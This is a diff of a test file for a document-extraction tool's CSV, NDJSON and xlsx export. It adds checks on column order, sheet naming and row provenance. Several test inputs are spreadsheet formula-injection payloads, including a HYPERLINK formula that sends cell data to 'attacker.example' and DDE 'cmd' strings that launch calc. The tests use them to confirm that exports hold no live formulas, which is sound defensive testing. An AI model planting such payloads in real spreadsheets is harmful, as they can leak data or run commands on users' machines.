@@ -2,9 +2,11 @@ import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFil
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { parse } from 'csv-parse/sync';
+import ExcelJS from 'exceljs';
 import { afterEach, describe, expect, it } from 'vitest';
 import type { RunningEmulator } from '../../../src/emulator/index.js';
-import { emulatorEnv, startTestEmulator } from '../../helpers/emulator-run.js';
+import { emulatorEnv, startTestEmulator, UNTHROTTLED_FLAGS } from '../../helpers/emulator-run.js';
+import { labelledPdf } from '../../helpers/make-pdf.js';
 import { isolatedEnv, runCli } from '../../helpers/run-cli.js';
 import { parseNdjson } from '../../helpers/workspace.js';
 
@@ -79,13 +81,14 @@ describe('docextract export', () => {
       problems: 0,
     });
     expect(run.stderr).toContain('skipped notes.json: not a docextract result');
-    expect(header(join(ws.tables, 'invoice.csv'))).toBe('source_file,status,model,pages,result_file,missing_pages,reviewed,tags,total,vendor.name,vendor.vat');
+    // The data first; where each row comes from after it.
+    expect(header(join(ws.tables, 'invoice.csv'))).toBe('source_file,row,status,model,pages,missing_pages,tags,total,vendor.name,vendor.vat,source_pages,sha256,result_file,reviewed');
     const invoices = readCsv(join(ws.tables, 'invoice.csv'));
     const partial = invoices.find((row) => row.source_file === 'in/sub/b.pdf');
     expect(partial).toMatchObject({ status: 'partial', pages: '7', missing_pages: '[5,6,7]', tags: '["x","y"]', 'vendor.vat': 'FR1', result_file: join('sub', 'b.pdf.json') });
     expect(readCsv(join(ws.tables, 'invoice.line_items.csv'))).toEqual([
-      { source_file: 'in/a.pdf', row: '1', qty: '2', sku: 'A1' },
-      { source_file: 'in/a.pdf', row: '2', qty: '1', sku: 'A2' },
+      { source_file: 'in/a.pdf', row: '1', parent: 'invoice', parent_row: '1', qty: '2', sku: 'A1', result_file: 'a.pdf.json' },
+      { source_file: 'in/a.pdf', row: '2', parent: 'invoice', parent_row: '1', qty: '1', sku: 'A2', result_file: 'a.pdf.json' },
     ]);
     expect(readCsv(join(ws.tables, 'receipt.csv'))[0]).toMatchObject({ model: '', document_type: 'receipt', merchant: 'Shop' });
     // Sends nothing and needs no key: the state folder is never created.
@@ -124,7 +127,7 @@ describe('docextract export', () => {
     formulas.forEach((value, i) => expect(row?.[`f${i}`], JSON.stringify(value)).toBe(`'${value}`));
     expect(row).toMatchObject({ source_file: "'=evil.pdf", result_file: "'=evil.pdf.json", amount: '-12.5', amount_text: '-12.5', plus_text: '+3' });
     expect(row?.["'=cmd|' /C calc'!A0"]).toBe('a formula as a column name');
-    expect(readCsv(join(ws.tables, 'invoice.line_items.csv'))).toEqual([{ source_file: "'=evil.pdf", row: '1', amount: '-2', description: "'@SUM(A1:A9)" }]);
+    expect(readCsv(join(ws.tables, 'invoice.line_items.csv'))).toEqual([{ source_file: "'=evil.pdf", row: '1', parent: 'invoice', parent_row: '1', amount: '-2', description: "'@SUM(A1:A9)", result_file: "'=evil.pdf.json" }]);
     // Whatever the cell, header included: it starts like no formula, or it is a plain number.
     for (const table of readdirSync(ws.tables)) {
       const cells = (parse(readFileSync(join(ws.tables, table)), { record_delimiter: '\r\n' }) as string[][]).flat();
@@ -169,7 +172,7 @@ describe('docextract export', () => {
     ]);
     const rows = readCsv(join(ws.tables, 'invoice.csv'));
     expect(new Set(rows.map((row) => row.n)).size).toBe(2000);
-    expect(Object.keys(rows[0] as object)).toHaveLength(7 + 1 + 50);
+    expect(Object.keys(rows[0] as object)).toHaveLength(6 + 1 + 50 + 4);
     expect(readCsv(join(ws.tables, 'invoice.items.csv'))).toHaveLength(6000);
     expect(readdirSync(ws.tables).sort()).toEqual(['invoice.csv', 'invoice.items.csv']);
   });
@@ -178,7 +181,7 @@ describe('docextract export', () => {
     const ws = resultsFolder({ 'a.json': resultJson({ path: 'in/a.pdf', data: { vendor: { name: 'ACME' }, items: [{ sku: 'A' }] } }) });
     const toFile = await runCli(['export', ws.results, '--out', ws.tables, '--format', 'ndjson'], { env: isolatedEnv() });
     expect(toFile.code).toBe(0);
-    const expected = { source_file: 'in/a.pdf', status: 'complete', model: 'invoice', pages: 1, result_file: 'a.json', missing_pages: null, reviewed: false, 'vendor.name': 'ACME', items: [{ sku: 'A' }] };
+    const expected = { source_file: 'in/a.pdf', row: 1, status: 'complete', model: 'invoice', pages: 1, missing_pages: null, 'vendor.name': 'ACME', items: [{ sku: 'A' }], source_pages: null, sha256: 'ab'.repeat(32), result_file: 'a.json', reviewed: false };
     expect(parseNdjson(readFileSync(join(ws.tables, 'documents.ndjson'), 'utf8'))).toEqual([expected]);
     const toStdout = await runCli(['export', ws.results, '--out', '-', '--format', 'ndjson', '--json'], { env: isolatedEnv() });
     expect(toStdout.code).toBe(0);
@@ -190,7 +193,165 @@ describe('docextract export', () => {
     const ws = resultsFolder({});
     expect((await runCli(['export', join(ws.dir, 'nope'), '--out', ws.tables], { env: isolatedEnv() })).code).toBe(2);
     expect((await runCli(['export', ws.results, '--out', '-'], { env: isolatedEnv() })).code).toBe(2);
-    expect((await runCli(['export', ws.results, '--out', ws.tables, '--format', 'xlsx'], { env: isolatedEnv() })).code).toBe(2);
+    expect((await runCli(['export', ws.results, '--out', ws.tables, '--format', 'xls'], { env: isolatedEnv() })).code).toBe(2);
+    expect((await runCli(['export', ws.results, '--out', '-', '--format', 'xlsx'], { env: isolatedEnv() })).code).toBe(2);
+    expect((await runCli(['export', ws.results, '--out', ws.tables, '--format', 'xlsx', '--bom'], { env: isolatedEnv() })).code).toBe(2);
+  });
+});
+
+describe('docextract export --format xlsx', () => {
+  /** Every cell of every sheet, read back by exceljs, with its sheet and address. */
+  function everyCell(workbook: ExcelJS.Workbook): { sheet: string; cell: ExcelJS.Cell }[] {
+    const cells: { sheet: string; cell: ExcelJS.Cell }[] = [];
+    workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => cells.push({ sheet: sheet.name, cell }))));
+    return cells;
+  }
+
+  /** The rows of a sheet as records by its header, each value as exceljs read it. */
+  function sheetRecords(sheet: ExcelJS.Worksheet | undefined): { record: Record<string, ExcelJS.CellValue>; cells: Record<string, ExcelJS.Cell> }[] {
+    const header = (sheet?.getRow(1).values as ExcelJS.CellValue[] | undefined) ?? [];
+    const rows: { record: Record<string, ExcelJS.CellValue>; cells: Record<string, ExcelJS.Cell> }[] = [];
+    sheet?.eachRow((row, number) => {
+      if (number === 1) return;
+      const record: Record<string, ExcelJS.CellValue> = {};
+      const cells: Record<string, ExcelJS.Cell> = {};
+      header.forEach((name, column) => {
+        if (typeof name !== 'string') return;
+        cells[name] = row.getCell(column);
+        record[name] = row.getCell(column).value;
+      });
+      rows.push({ record, cells });
+    });
+    return rows;
+  }
+
+  it('writes one workbook with typed cells: text stays text (leading zeros kept), numbers numbers, dates dates, and no formula anywhere', async () => {
+    const formulas = ['=HYPERLINK("http://attacker.example/?"&A1,"click")', '@SUM(1+1)', "+cmd|' /C calc'!A0", '-1+cmd'];
+    const data = {
+      invoice_number: '00670494',
+      total: 1234.5,
+      refund: -12.5,
+      amount_text: '-12.5',
+      issue_date: '2024-03-31',
+      not_a_date: '2024-02-30',
+      paid: true,
+      tags: ['a', 'b'],
+      ...Object.fromEntries(formulas.map((value, i) => [`f${i}`, value])),
+      '=cmd': 'a formula as a column name',
+      line_items: [{ description: '=1+1', amount: 10 }, { description: 'nut', amount: 2.5 }],
+    };
+    const ws = resultsFolder({
+      'a.pdf.json': resultJson({ path: 'in/a.pdf', data }),
+      'b.pdf.json': resultJson({ path: 'in/b.pdf', data: { invoice_number: '007', total: 3 } }),
+      'c.pdf.json': resultJson({ path: 'in/c.pdf', model: 'inv[oice]:*?/\\ of ACME, the long name', data: { n: 1 } }),
+      'd.pdf.json': resultJson({ path: 'in/d.pdf', model: 'Invoice', data: { n: 2 } }),
+      'e.pdf.json': resultJson({ path: 'in/e.pdf', model: 'History', data: { n: 3 } }),
+    });
+    const run = await runCli(['export', ws.results, '--out', ws.tables, '--format', 'xlsx', '--json'], { env: isolatedEnv() });
+    expect(run.code, run.stderr).toBe(0);
+    expect(readdirSync(ws.tables)).toEqual(['tables.xlsx']);
+    const summary = JSON.parse(run.stdout) as { format: string; documents: number; tables: { file: string; sheet: string; table: string; rows: number }[] };
+    expect(summary).toMatchObject({ format: 'xlsx', documents: 5 });
+    expect(summary.tables.map((table) => table.table)).toEqual(['History', 'Invoice', expect.stringMatching(/^inv_oice_{7}of_ACME__the_long~[0-9a-f]{16}$/), 'invoice', 'invoice.line_items']);
+    // The sheets come in table order; 'Invoice' comes first, so 'invoice' is the name Excel would take for the same.
+    const sheetOf = (table: string): string | undefined => summary.tables.find((entry) => entry.table === table)?.sheet;
+    expect(sheetOf('Invoice')).toBe('Invoice');
+    expect(sheetOf('invoice')).toMatch(/^invoice~[0-9a-f]{8}$/);
+    expect(summary.tables.find((table) => table.table === 'invoice.line_items')).toEqual({ file: 'tables.xlsx', sheet: 'invoice.line_items', table: 'invoice.line_items', rows: 2 });
+    expect(summary.tables.find((table) => table.table === 'invoice')?.rows).toBe(2);
+
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.readFile(join(ws.tables, 'tables.xlsx'));
+    // Sheet names Excel accepts: at most 31 characters, none of []:*?/\, no two alike but for case, not History.
+    const names = workbook.worksheets.map((sheet) => sheet.name);
+    expect(names).toEqual(summary.tables.map((table) => table.sheet));
+    for (const name of names) expect(name, name).toMatch(/^[^[\]:*?/\\]{1,31}$/);
+    expect(new Set(names.map((name) => name.toLowerCase())).size).toBe(names.length);
+    expect(names.map((name) => name.toLowerCase())).not.toContain('history');
+
+    const invoices = sheetRecords(workbook.getWorksheet(sheetOf('invoice')));
+    const a = invoices.find((row) => row.record.source_file === 'in/a.pdf');
+    expect(a?.cells.invoice_number?.type).toBe(ExcelJS.ValueType.String);
+    expect(a?.record).toMatchObject({ invoice_number: '00670494', total: 1234.5, refund: -12.5, amount_text: '-12.5', not_a_date: '2024-02-30', paid: true, tags: '["a","b"]', row: 1, '=cmd': 'a formula as a column name' });
+    expect(a?.cells.total?.type).toBe(ExcelJS.ValueType.Number);
+    expect(a?.record.issue_date).toEqual(new Date(Date.UTC(2024, 2, 31)));
+    expect(a?.cells.issue_date?.numFmt).toBe('yyyy-mm-dd');
+    formulas.forEach((value, i) => {
+      expect(a?.record[`f${i}`]).toBe(value);
+      expect(a?.cells[`f${i}`]?.type).toBe(ExcelJS.ValueType.String);
+    });
+    expect(invoices.find((row) => row.record.source_file === 'in/b.pdf')?.record.invoice_number).toBe('007');
+
+    const items = sheetRecords(workbook.getWorksheet('invoice.line_items'));
+    expect(items.map((item) => [item.record.description, item.record.amount, item.record.parent, item.record.parent_row, item.record.result_file])).toEqual([
+      ['=1+1', 10, 'invoice', 1, 'a.pdf.json'],
+      ['nut', 2.5, 'invoice', 1, 'a.pdf.json'],
+    ]);
+    const cells = everyCell(workbook);
+    expect(cells.length).toBeGreaterThan(50);
+    for (const { sheet, cell } of cells) {
+      expect(cell.type, `${sheet}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
+      expect(cell.formula, `${sheet}!${cell.address}`).toBeUndefined();
+    }
+  });
+});
+
+describe('docextract export of whole files, page selections and parts in one folder', () => {
+  let emulator: RunningEmulator | undefined;
+  afterEach(async () => {
+    await emulator?.close();
+    emulator = undefined;
+  });
+
+  it('gives every child row exactly one parent row, every page row its source page, and every path relative to the folder exported', async () => {
+    emulator = await startTestEmulator();
+    const env = emulatorEnv(emulator);
+    const ws = resultsFolder({});
+    const inputs = join(ws.dir, 'in');
+    mkdirSync(inputs);
+    writeFileSync(join(inputs, 'inv-003.pdf'), await labelledPdf('Invoice', 3));
+    writeFileSync(join(inputs, 'long.pdf'), await labelledPdf('Long', 160));
+    const flags = ['--model', 'invoice', '--out', ws.results, ...UNTHROTTLED_FLAGS];
+    const whole = await runCli(['extract', inputs, ...flags], { env });
+    expect(whole.code, whole.stderr).toBe(0);
+    const selected = await runCli(['extract', join(inputs, 'inv-003.pdf'), '--pages', '1,-1', ...flags], { env });
+    expect(selected.code, selected.stderr).toBe(0);
+    const run = await runCli(['export', ws.results, '--out', ws.tables], { env });
+    expect(run.code, run.stderr).toBe(0);
+
+    const tables: Record<string, Record<string, string>[]> = {};
+    for (const name of ['invoice', 'invoice.data.pages', 'invoice.line_items']) tables[name] = readCsv(join(ws.tables, `${name}.csv`));
+    const invoices = tables.invoice ?? [];
+    // inv-003.pdf whole and as pages 1 and 3; long.pdf as its two parts.
+    expect(invoices.map((row) => [row.source_file, row.row, row.source_pages]).sort()).toEqual([
+      ['../in/inv-003.pdf', '1', '1,3'],
+      ['../in/inv-003.pdf', '1', '1-3'],
+      ['../in/long.pdf', '1', '1-150'],
+      ['../in/long.pdf', '2', '151-160'],
+    ]);
+    expect(header(join(ws.tables, 'invoice.csv'))).toMatch(/^source_file,row,status,model,pages,missing_pages,.*,source_pages,sha256,result_file,reviewed$/);
+    for (const [name, rows] of Object.entries(tables)) {
+      const key = (row: Record<string, string>): string => `${row.result_file}\0${row.row}`;
+      expect(new Set(rows.map(key)).size, `${name}: result_file and row key every row`).toBe(rows.length);
+      for (const row of rows) {
+        // Paths are relative to the folder exported, in every table alike.
+        expect(existsSync(join(ws.results, row.result_file as string)), `${name}: ${row.result_file}`).toBe(true);
+        expect(existsSync(join(ws.results, row.source_file as string)), `${name}: ${row.source_file}`).toBe(true);
+        if (name === 'invoice') continue;
+        const parents = (tables[row.parent as string] ?? []).filter((parent) => parent.result_file === row.result_file && parent.row === row.parent_row);
+        expect(parents, `${name} row ${key(row)}`).toHaveLength(1);
+        expect(parents[0]?.source_file).toBe(row.source_file);
+        expect(row.source_page, `${name} row ${key(row)}`).toMatch(/^\d+$/);
+        if (name === 'invoice.line_items') expect(row.source_page).toBe(parents[0]?.source_page);
+      }
+    }
+    const sourcePages = (file: string) => (tables['invoice.data.pages'] ?? []).filter((page) => page.result_file === file).map((page) => Number(page.source_page));
+    const resultOf = (source: string, pages: string) => invoices.find((row) => row.source_file === source && row.source_pages === pages)?.result_file as string;
+    expect(sourcePages(resultOf('../in/inv-003.pdf', '1-3'))).toEqual([1, 2, 3]);
+    expect(sourcePages(resultOf('../in/inv-003.pdf', '1,3'))).toEqual([1, 3]);
+    expect(sourcePages(resultOf('../in/long.pdf', '1-150'))).toEqual(Array.from({ length: 160 }, (_, i) => i + 1));
+    // The service numbers the pages it was sent: page 1 of the second part is the source's page 151.
+    expect((tables['invoice.data.pages'] ?? []).find((page) => page.source_page === '151')).toMatchObject({ page: '1', parent_row: '2' });
   });
 });
 
@@ -211,15 +372,15 @@ describe('docextract export of the demo', () => {
     const run = await runCli(['export', ws.results, '--out', ws.tables], { env });
     expect(run.code, run.stderr).toBe(0);
     expect(readdirSync(ws.tables).sort()).toEqual(['invoice.csv', 'invoice.data.pages.csv', 'invoice.line_items.csv']);
-    expect(header(join(ws.tables, 'invoice.line_items.csv'))).toBe('source_file,row,page,parent,parent_row,amount,description,quantity,unit_price');
+    expect(header(join(ws.tables, 'invoice.line_items.csv'))).toBe('source_file,row,parent,parent_row,amount,description,quantity,unit_price,source_page,result_file');
     expect(header(join(ws.tables, 'invoice.data.pages.csv'))).not.toContain('line_items');
     const pages = readCsv(join(ws.tables, 'invoice.data.pages.csv'));
     const items = readCsv(join(ws.tables, 'invoice.line_items.csv'));
     expect(new Set(items.map((item) => item.source_file)).size).toBe(2);
     for (const item of items) {
-      const parent = pages.find((page) => page.source_file === item.source_file && page.row === item.parent_row);
+      const parent = pages.find((page) => page.result_file === item.result_file && page.row === item.parent_row);
       expect(item.parent).toBe('invoice.data.pages');
-      expect(parent?.page, JSON.stringify(item)).toBe(item.page);
+      expect(parent?.source_page, JSON.stringify(item)).toBe(item.source_page);
     }
     const results = readdirSync(ws.results, { recursive: true, encoding: 'utf8' }).filter((name) => name.endsWith('.pdf.json'));
     const itemsInResults = results.flatMap((name) => (JSON.parse(readFileSync(join(ws.results, name), 'utf8')) as { data: { pages: { line_items: unknown[] }[] } }).data.pages.flatMap((page) => page.line_items));
